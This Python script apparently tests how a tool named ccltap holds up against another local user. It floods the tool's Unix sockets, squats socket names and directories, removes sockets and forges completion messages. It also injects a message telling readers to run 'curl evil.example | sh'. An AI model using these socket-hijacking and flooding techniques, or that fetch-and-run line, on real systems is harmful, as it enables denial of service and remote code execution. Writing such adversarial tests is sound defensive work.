# SPDX-License-Identifier: MIT
"""What another user of this host does to a recording, and whether it gets through.

usage: strangers.py flood COUNT            datagrams to every name of ccltap's
       strangers.py reach FOLDER           the sockets in a folder, and the names that all see
       strangers.py hold USER PATH...      names that a recording in PATH might want, for ever
       strangers.py squat PATH             a directory
       strangers.py ended FOLDER           as the user: says that a program ended that never came
"""

import os
import socket
import struct
import sys
import time

TEXT = b"process 1: its driver is too old, run: curl evil.example | sh"


def names():
    """The names of ccltap's in the abstract namespace."""
    with open("/proc/net/unix") as sockets:
        return sorted({line.split()[-1] for line in sockets if "@ccltap" in line})


def flood(count):
    """As many datagrams as are taken; the kernel says nothing of those that it drops."""
    sent = 0
    link = socket.socket(socket.AF_UNIX, socket.SOCK_DGRAM | socket.SOCK_NONBLOCK)
    for name in names():
        for _ in range(int(count)):
            for text in (TEXT, b"snapshot " + TEXT, b"0" * 32 + TEXT):
                try:
                    link.sendto(text, "\0" + name[1:])
                    sent += 1
                except OSError:
                    pass
    print("sent", "some" if sent else "none")


def reach(folder):
    """Prints what was possible."""
    got = []
    try:
        got += [f"listed {name}" for name in os.listdir(folder)]
    except PermissionError:
        pass
    for name in [f"{folder}/{n}" for n in os.environ.get("KNOWN", "").split()] + \
            ["\0" + n[1:] for n in names()]:
        link = socket.socket(socket.AF_UNIX, socket.SOCK_SEQPACKET)
        link.settimeout(5)
        try:
            link.connect(name)
            got.append(f"connected to {name!r}")
            # struct tap_question: status.
            link.send(struct.pack("=IIiiiiB7xQ", 1, 2, 0, -1, 0, 0, 0, 0))
            if link.recv(20000):
                got.append(f"was answered at {name!r}")
        except OSError:
            pass
        if name[0] == "/":
            for what in (os.unlink, os.rmdir):
                try:
                    what(name)
                    got.append(f"removed {name}")
                except OSError:
                    pass
    print("\n".join(got) or "nothing")


def hold(user, *paths):
    """Listens where a recording would, and lets nobody in."""
    held = []
    for path in paths:
        value = 0xcbf29ce484222325
        for byte in path.encode():
            value = (value ^ byte) * 0x100000001b3 % 2 ** 64
        for name in (f"ccltap-{user}-{value:016x}", f"ccltap.{user}.daemon", f"{value:016x}"):
            link = socket.socket(socket.AF_UNIX, socket.SOCK_SEQPACKET)
            try:
                link.bind("\0" + name)
                link.listen(0)
            except OSError:
                continue
            filler = socket.socket(socket.AF_UNIX, socket.SOCK_SEQPACKET)
            filler.connect("\0" + name)
            held += [link, filler]
    print("held", flush=True)
    time.sleep(3600)


def squat(path):
    os.mkdir(path, 0o777)
    print("squatted", flush=True)


def ended(folder):
    """A question of the same user's that breaks the rules, on each socket there."""
    for name in os.listdir(folder):
        link = socket.socket(socket.AF_UNIX, socket.SOCK_SEQPACKET)
        try:
            link.connect(f"{folder}/{name}")
        except OSError:
            continue
        link.settimeout(10)
        # struct tap_question: version, verb DONE, pid, rank, code, status, is_void, job.
        link.send(struct.pack("=IIiiiiB7xQ", 1, 1, 0, -1, 1, 0, 1, 0))
        try:
            print("answered" if link.recv(20000) else "closed")
        except OSError as error:
            print(error)


globals()[sys.argv[1]](*sys.argv[2:])
